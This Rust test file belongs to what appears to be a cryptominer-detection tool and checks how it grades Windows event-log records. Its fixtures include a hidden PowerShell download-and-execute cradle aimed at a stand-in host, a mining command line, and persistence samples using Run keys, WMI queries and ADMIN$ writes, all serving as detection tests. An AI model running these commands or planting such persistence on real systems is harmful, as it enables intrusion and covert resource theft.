use crate::assessment::{Assessment, Confidence, Severity, Verdict};
use crate::messages as m;
use crate::test_support::records_of;
use evidence::{Event, MessageSpec, RecordData};
use intel::Intel;

const SYSMON: &str = "Microsoft-Windows-Sysmon";
const SECURITY: &str = "Microsoft-Windows-Security-Auditing";
const WMI: &str = "Microsoft-Windows-WMI-Activity";
const DEFENDER: &str = "Microsoft-Windows-Windows Defender";
const MINER: &str = r"C:\ProgramData\x.exe -o stratum+tcp://pool.example:3333 -u 4 --donate-level 1";
const CRADLE: &str =
    "powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')";

fn event(provider: &str, number: u32, second: u32, data: &[(&str, &str)]) -> RecordData {
    RecordData::Event(Event {
        channel: String::new(),
        provider: provider.to_owned(),
        event_id: number,
        record_id: u64::from(second),
        time: format!("2022-03-10T21:{:02}:{:02}Z", second / 60, second % 60).parse().unwrap(),
        computer: "PC".to_owned(),
        data: data.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
    })
}

fn assess(events: impl IntoIterator<Item = RecordData>) -> Assessment {
    let mut evidence = records_of(events);
    evidence.sources[0].format = "event-log".to_owned();
    crate::assess(&evidence, Intel::builtin())
}

/// Title, severity and confidence of what one event gives.
fn one(provider: &str, number: u32, data: &[(&str, &str)]) -> Option<(String, Severity, Confidence)> {
    let assessment = assess([event(provider, number, 1, data)]);
    assert!(assessment.findings.len() <= 1, "{:#?}", assessment.findings);
    let found = assessment.findings.into_iter().next()?;
    Some((found.title.id, found.severity, found.confidence))
}

/// The data of an event.
type Data<'a> = &'a [(&'a str, &'a str)];
/// An event, and what it gives.
type Case<'a> = (&'a str, u32, Data<'a>, MessageSpec, Severity, Confidence);

fn check(cases: &[Case]) {
    for (provider, number, data, title, severity, confidence) in cases {
        let expected = Some((title.id.to_owned(), *severity, *confidence));
        assert_eq!(one(provider, *number, data), expected, "{provider} {number} {data:?}");
    }
}

#[test]
fn each_event_of_sysmon_that_tells_of_a_miner_is_told() {
    use Confidence::{Likely, Possible};
    use Severity::{High, Low, Medium};
    let winring0 = "SHA256=11BD2C9F9E2397C9A16E0990E4ED2CF0679498FE0FD418A3DFDAC60B5C160EE5";
    let run = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\x";
    let service = r"HKLM\System\CurrentControlSet\Services\x\ImagePath";
    check(&[
        (
            SYSMON,
            3,
            &[("DestinationHostname", "xmr.nanopool.org"), ("DestinationPort", "14444")],
            m::TITLE_CONNECTION,
            Medium,
            Likely,
        ),
        (
            SYSMON,
            3,
            &[("DestinationHostname", "xmr.nanopool.org"), ("DestinationPort", "443")],
            m::TITLE_CONNECTION,
            Medium,
            Possible,
        ),
        (SYSMON, 22, &[("QueryName", "pool.minexmr.com")], m::TITLE_LOOKUP, Medium, Possible),
        (
            SYSMON,
            6,
            &[("ImageLoaded", r"C:\ProgramData\a.sys"), ("Hashes", winring0)],
            m::TITLE_DRIVER_LOADED,
            Medium,
            Possible,
        ),
        (
            SYSMON,
            6,
            &[("ImageLoaded", r"C:\Program Files\a\WinRing0x64.sys")],
            m::TITLE_DRIVER_LOADED,
            Low,
            Possible,
        ),
        (
            SYSMON,
            11,
            &[("TargetFilename", r"C:\Windows\Fonts\svchost.exe")],
            m::TITLE_FILE_WRITTEN,
            High,
            Likely,
        ),
        (SYSMON, 13, &[("TargetObject", run), ("Details", MINER)], m::TITLE_AUTOSTART, Medium, Likely),
        (SYSMON, 13, &[("TargetObject", run), ("Details", CRADLE)], m::TITLE_AUTOSTART, High, Likely),
        (SYSMON, 13, &[("TargetObject", service), ("Details", MINER)], m::TITLE_AUTOSTART, Medium, Likely),
        (
            SYSMON,
            13,
            &[("TargetObject", r"HKLM\SOFTWARE\x"), ("Details", MINER)],
            m::TITLE_VALUE_WRITTEN,
            High,
            Likely,
        ),
        (
            SYSMON,
            25,
            &[("Image", r"C:\Windows\System32\svchost.exe"), ("Type", "Image is replaced")],
            m::TITLE_TAMPERED,
            Medium,
            Likely,
        ),
    ]);
}

#[test]
fn each_event_of_windows_that_tells_of_a_miner_is_told() {
    use Confidence::{Likely, Possible};
    use Severity::{High, Low, Medium};
    let host = format!("\tHostName=ConsoleHost\n\tHostApplication={MINER}\n\tEngineVersion=");
    let context = format!("        重要度 = Informational\n        ホスト アプリケーション = {MINER}");
    let counter = "select * from __InstanceModificationEvent within 5600 where TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
    let process = "select * from Win32_ProcessStartTrace where ProcessName='procexp64.exe'";
    check(&[
        (
            WMI,
            5857,
            &[("ProviderName", "x"), ("ProviderPath", r"C:\ProgramData\x.dll")],
            m::TITLE_PROVIDER_LOADED,
            Medium,
            Possible,
        ),
        (WMI, 5859, &[("Query", counter), ("PossibleCause", "Permanent")], m::TITLE_QUERY, Medium, Possible),
        (WMI, 5860, &[("Query", process)], m::TITLE_QUERY, Medium, Possible),
        ("Microsoft-Windows-WMI", 10, &[("param1", counter)], m::TITLE_QUERY, Medium, Possible),
        ("PowerShell", 400, &[("param3", &host)], m::TITLE_PROCESS_RAN, High, Likely),
        ("PowerShell", 600, &[("param3", &host)], m::TITLE_PROCESS_RAN, High, Likely),
        (
            "Microsoft-Windows-PowerShell",
            4103,
            &[("ContextInfo", &context)],
            m::TITLE_PROCESS_RAN,
            High,
            Likely,
        ),
        ("Microsoft-Windows-PowerShell", 4103, &[("Payload", MINER)], m::TITLE_SCRIPT_RAN, High, Likely),
        ("PowerShellCore", 4104, &[("ScriptBlockText", MINER)], m::TITLE_SCRIPT_RAN, High, Likely),
        (
            "Microsoft-Windows-TaskScheduler",
            200,
            &[("ActionName", MINER)],
            m::TITLE_PROCESS_RAN,
            High,
            Likely,
        ),
        (
            "Microsoft-Windows-Bits-Client",
            59,
            &[("url", "http://xmr.nanopool.org/a")],
            m::TITLE_TRANSFER,
            Medium,
            Likely,
        ),
        ("Microsoft-Windows-SMBServer", 3000, &[("ClientName", r"\\10.0.0.7")], m::TITLE_SMB1, Low, Possible),
        (
            SECURITY,
            5145,
            &[
                ("ShareName", r"\\*\ADMIN$"),
                ("RelativeTargetName", "a.exe"),
                ("IpAddress", "10.0.0.8"),
                ("AccessMask", "0x2"),
            ],
            m::TITLE_WRITTEN_REMOTELY,
            Low,
            Possible,
        ),
    ]);
}

#[test]
fn everyday_events_are_silent() {
    let run = r"HKU\S-1-5-21-1-2-3-1000\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive";
    let defender = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4\MpProvider.dll";
    let bvt = "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_Processor\" AND TargetInstance.LoadPercentage > 99";
    let cases: &[(&str, u32, Data)] = &[
        (SYSMON, 3, &[("DestinationHostname", "www.example.com"), ("DestinationPort", "14444")]),
        (
            SYSMON,
            3,
            &[
                ("SourceHostname", "xmr.nanopool.org"),
                ("DestinationIp", "10.0.0.1"),
                ("DestinationPort", "3333"),
            ],
        ),
        (SYSMON, 22, &[("QueryName", "time.windows.com")]),
        (SYSMON, 6, &[("ImageLoaded", r"C:\Windows\System32\drivers\a.sys"), ("Hashes", "SHA256=00")]),
        (SYSMON, 11, &[("TargetFilename", r"C:\Users\me\Downloads\setup.exe")]),
        (SYSMON, 12, &[("TargetObject", r"HKLM\SOFTWARE\Vendor"), ("EventType", "CreateKey")]),
        (
            SYSMON,
            13,
            &[
                ("TargetObject", run),
                ("Details", r#""C:\Users\me\AppData\Local\Microsoft\OneDrive\OneDrive.exe" /background"#),
            ],
        ),
        (
            SYSMON,
            13,
            &[
                ("TargetObject", r"HKLM\System\CurrentControlSet\Services\x\Start"),
                ("Details", "DWORD (0x00000002)"),
            ],
        ),
        (
            SYSMON,
            25,
            &[
                ("Image", r"C:\Program Files\Google\Chrome\Application\chrome.exe"),
                ("Type", "Image is replaced"),
            ],
        ),
        (WMI, 5857, &[("ProviderName", "x"), ("ProviderPath", r"%systemroot%\system32\wbem\x.dll")]),
        (WMI, 5857, &[("ProviderName", "x"), ("ProviderPath", defender)]),
        (
            WMI,
            5858,
            &[("Operation", "Start IWbemServices::ExecQuery - root\\cimv2 : select xmrig from stratum")],
        ),
        (WMI, 5859, &[("Query", "select * from MSFT_SCMEventLogEvent")]),
        (
            WMI,
            5860,
            &[(
                "Query",
                "SELECT * FROM __InstanceOperationEvent WHERE TargetInstance ISA 'AntiVirusProduct'",
            )],
        ),
        ("WinMgmt", 10, &[("param1", bvt)]),
        ("Microsoft-Windows-WMI", 63, &[("param1", "WmiPerfClass"), ("param2", r"root\cimv2")]),
        (
            "PowerShell",
            400,
            &[(
                "param3",
                "\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe\n",
            )],
        ),
        ("Microsoft-Windows-TaskScheduler", 200, &[("ActionName", r"%windir%\system32\rundll32.exe")]),
        ("Microsoft-Windows-Bits-Client", 59, &[("url", "https://download.windowsupdate.com/a.cab")]),
        (SECURITY, 5140, &[("ShareName", r"\\*\IPC$"), ("IpAddress", "10.0.0.8")]),
        (
            SECURITY,
            5145,
            &[("ShareName", r"\\*\SYSVOL"), ("RelativeTargetName", "a.exe"), ("IpAddress", "10.0.0.8")],
        ),
        (
            SECURITY,
            5145,
            &[
                ("ShareName", r"\\*\C$"),
                ("RelativeTargetName", "a.exe"),
                ("IpAddress", "10.0.0.8"),
                ("AccessMask", "0x1"),
            ],
        ),
        (SECURITY, 4625, &[("IpAddress", "10.0.0.8"), ("TargetUserName", "me")]),
    ];
    for (provider, number, data) in cases {
        assert_eq!(one(provider, *number, data), None, "{provider} {number} {data:?}");
    }
}

#[test]
fn who_guesses_passwords_is_a_machine_to_check() {
    let fails = |count: u32, address: &'static str| {
        (1..=count).map(move |second| {
            event(
                SECURITY,
                4625,
                second,
                &[("IpAddress", address), ("TargetUserName", "boss"), ("LogonType", "3")],
            )
        })
    };
    let few = assess(fails(19, "10.0.0.8"));
    assert_eq!((few.findings.len(), few.neighbours.len()), (0, 0));
    let own = assess(fails(60, "127.0.0.1"));
    assert_eq!((own.findings.len(), own.neighbours.len()), (0, 0));
    let many = assess(fails(20, "::ffff:10.0.0.8"));
    assert_eq!(
        (many.findings[0].title.id.as_str(), many.findings[0].severity),
        (m::TITLE_GUESSES.id, Severity::Low)
    );
    assert_eq!((many.neighbours, many.verdict), (vec!["10.0.0.8".to_owned()], Verdict::Inconclusive));
    let success = event(
        SECURITY,
        4624,
        100,
        &[("IpAddress", "10.0.0.8"), ("TargetUserName", "boss"), ("LogonType", "3")],
    );
    let guessed = assess(fails(20, "10.0.0.8").chain([success]));
    assert_eq!((guessed.findings[0].severity, guessed.verdict), (Severity::Medium, Verdict::Suspicious));
}

#[test]
fn what_defender_removed_is_no_threat_but_a_trace() {
    let threat = |number: u32, second: u32, more: &[(&str, &str)]| {
        let data =
            [("Threat Name", "Trojan:Win32/CoinMiner"), ("Path", r"file:_C:\a.exe"), ("Detection ID", "{1}")];
        event(DEFENDER, number, second, &[&data[..], more].concat())
    };
    let quarantined = [("Action ID", "2"), ("Action Name", "検疫"), ("Error Code", "0x00000000")];
    let judged = |events: Vec<RecordData>| {
        let assessment = assess(events);
        (assessment.findings[0].severity, assessment.verdict)
    };
    let (there, gone) = ((Severity::High, Verdict::Infected), (Severity::Medium, Verdict::Suspicious));
    assert_eq!(judged(vec![threat(1116, 1, &[])]), there);
    assert_eq!(judged(vec![threat(1116, 1, &[]), threat(1117, 2, &quarantined)]), gone);
    assert_eq!(judged(vec![threat(1117, 2, &quarantined)]), gone);
    assert_eq!(judged(vec![threat(1117, 2, &[("Action Name", "Quarantine")])]), gone);
    assert_eq!(judged(vec![threat(1117, 1, &quarantined), threat(1116, 2, &[])]), there, "it came back");
    let failed = [("Action ID", "2"), ("Error Code", "0x80508023")];
    assert_eq!(judged(vec![threat(1116, 1, &[]), threat(1117, 2, &failed)]), there);
    assert_eq!(judged(vec![threat(1116, 1, &[]), threat(1117, 2, &[("Action ID", "6")])]), there, "allowed");
    let other = event(
        DEFENDER,
        1116,
        1,
        &[("Threat Name", "Trojan:Win32/CoinMiner"), ("Path", "b.exe"), ("Detection ID", "{2}")],
    );
    assert_eq!(judged(vec![other, threat(1117, 2, &quarantined)]), there, "one of two places");
}

#[test]
fn what_one_log_of_defender_tells_of_a_removal_holds_for_the_other() {
    let place = r"file:_C:\Users\me\x.exe";
    let found = |second, id: Option<&str>, path: &str| {
        let mut data = vec![("Threat Name", "Trojan:Win32/X"), ("Path", path)];
        data.extend(id.map(|id| ("Detection ID", id)));
        event(DEFENDER, 1116, second, &data)
    };
    let removed = |second| {
        let data = [
            ("Threat Name", "Trojan:Win32/X"),
            ("Path", place),
            ("Detection ID", "{1}"),
            ("Action ID", "2"),
            ("Error Code", "0x00000000"),
        ];
        event(DEFENDER, 1117, second, &data)
    };
    let severity = |events: Vec<RecordData>| {
        let findings = assess(events).findings;
        let [finding] = &findings[..] else { panic!("{findings:#?}") };
        finding.severity
    };
    let lower = place.to_lowercase() + "; process:_pid:1";
    assert_eq!(
        severity(vec![found(1, Some("{1}"), place), found(1, None, &lower), removed(2)]),
        Severity::Medium
    );
    // What is found later is there, and so is what lies elsewhere.
    assert_eq!(
        severity(vec![found(1, Some("{1}"), place), removed(2), found(3, None, place)]),
        Severity::High
    );
    let other = r"file:_C:\y.exe";
    assert_eq!(
        severity(vec![found(1, Some("{1}"), place), found(1, None, other), removed(2)]),
        Severity::High
    );
}

/// A program that was written is known again by the hashes that Sysmon notes, whatever it is called.
#[test]
fn hashes_of_files_that_were_written() {
    let family = format!(
        "schema = \"deminer.family/1\"\nname = \"Own\"\nsources = [{{ id = \"lab\", title = \"t\" }}]\nindicators = [{{ kind = \"sha256\", pattern = \"{}\", weight = 10, source = \"lab\" }}]",
        "ab".repeat(32)
    );
    let intel =
        Intel::builtin().clone().with_families([intel::Family::from_toml("own.toml", &family).unwrap()]);
    let hashes = format!("SHA1=00,SHA256={}", "AB".repeat(32));
    for (number, field) in [(29, "Hashes"), (15, "Hash")] {
        let fields = [("TargetFilename", r"C:\Data\x.bin"), (field, hashes.as_str())];
        let evidence = records_of([event(SYSMON, number, 1, &fields)]);
        let found = crate::assess(&evidence, &intel).findings;
        let [finding] = &found[..] else { panic!("{found:?}") };
        assert_eq!((finding.severity, finding.confidence), (Severity::High, Confidence::Certain));
        assert_eq!(finding.family.as_deref(), Some("Own"));
    }
}
